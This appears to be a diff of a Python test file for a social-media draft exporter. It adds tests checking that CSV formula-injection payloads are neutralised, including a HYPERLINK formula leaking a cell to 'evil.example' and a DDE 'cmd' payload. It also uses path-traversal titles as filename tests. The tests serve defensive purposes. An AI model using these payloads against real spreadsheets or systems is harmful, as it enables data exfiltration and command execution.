@@ -94,7 +94,7 @@ def test_json_record_is_the_full_draft_without_review_notes() -> None:
     assert "review_notes" not in data["draft"]
     assert "SECRET-REVIEW-NOTE" not in rendered.content
     assert data["checklist"]["gate"]["passed"] is False
-    assert rendered.filename == "draft-12-festa-della-donna.json"
+    assert rendered.filename == "draft-12.json"
     assert "💐" in rendered.content
 
 
@@ -103,7 +103,7 @@ def test_txt_is_one_platforms_text() -> None:
     assert render_txt(draft) == "Buona Festa della Donna a tutte! 💐\n"
     assert render_txt(draft, "linkedin").startswith("Buona Festa della Donna a tutte le colleghe")
     rendered = render("txt", draft, platform="linkedin")
-    assert rendered.filename == "draft-12-festa-della-donna-linkedin.txt"
+    assert rendered.filename == "draft-12-linkedin.txt"
     with pytest.raises(ExportError, match="not a chosen platform"):
         render_txt(draft, "bluesky")
 
@@ -129,9 +129,7 @@ def test_hootsuite_csv_has_no_header_and_us_dates() -> None:
     rows = list(csv.reader(io.StringIO(content)))
     assert rows[0] == ["03/08/2026 10:05", "Buona Festa della Donna a tutte! 💐", ""]
     assert len(rows) == 2
-    assert (
-        render("csv-hootsuite", make_draft()).filename == "draft-12-festa-della-donna-hootsuite.csv"
-    )
+    assert render("csv-hootsuite", make_draft()).filename == "draft-12-hootsuite.csv"
 
 
 def test_csv_without_schedule_leaves_time_blank() -> None:
@@ -154,21 +152,21 @@ def test_webhook_payload_is_slack_compatible_and_escaped() -> None:
 
 
 @pytest.mark.parametrize(
-    ("title", "expected"),
+    "title",
     [
-        ("../../etc/passwd", "draft-12-etc-passwd.md"),
-        (".bashrc", "draft-12-bashrc.md"),
-        ("Perché sì / no \\ forse", "draft-12-perche-si-no-forse.md"),
-        ("", "draft-12.md"),
-        ("🔥🔥🔥", "draft-12.md"),
-        ("C:\\Windows\\System32", "draft-12-c-windows-system32.md"),
+        "../../etc/passwd",
+        ".bashrc",
+        "Perché sì / no \\ forse",
+        "",
+        "🔥🔥🔥",
+        "C:\\Windows\\System32",
     ],
 )
-def test_file_names_are_safe(title: str, expected: str) -> None:
+def test_file_names_are_safe_and_never_carry_the_title(title: str) -> None:
     draft = make_draft()
     draft.title = title
     name = safe_filename(draft, "md")
-    assert name == expected
+    assert name == "draft-12.md"
     assert "/" not in name
     assert "\\" not in name
     assert not name.startswith(".")
@@ -185,3 +183,36 @@ def test_unknown_format_is_refused() -> None:
         render("pdf", make_draft())
     with pytest.raises(ExportError, match="not written to a file"):
         safe_filename(make_draft(), "webhook")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "+1 per la pizza",
+        "-5% oggi",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tTAB",
+        "\rCR",
+    ],
+)
+@pytest.mark.parametrize("fmt", ["csv-buffer", "csv-hootsuite"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(fmt: str, text: str) -> None:
+    draft = make_draft()
+    draft.variants = {}
+    draft.text = text
+    rows = list(csv.reader(io.StringIO(render(fmt, draft).content)))
+    body = rows[1:] if fmt == "csv-buffer" else rows
+    cell = body[0][0] if fmt == "csv-buffer" else body[0][1]
+    assert cell == "'" + text
+    for row in body:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_plain_csv_cells_are_left_alone() -> None:
+    draft = make_draft()
+    draft.variants = {}
+    draft.text = "Buona festa! = auguri"
+    rows = list(csv.reader(io.StringIO(render("csv-buffer", draft).content)))
+    assert rows[1][0] == "Buona festa! = auguri"
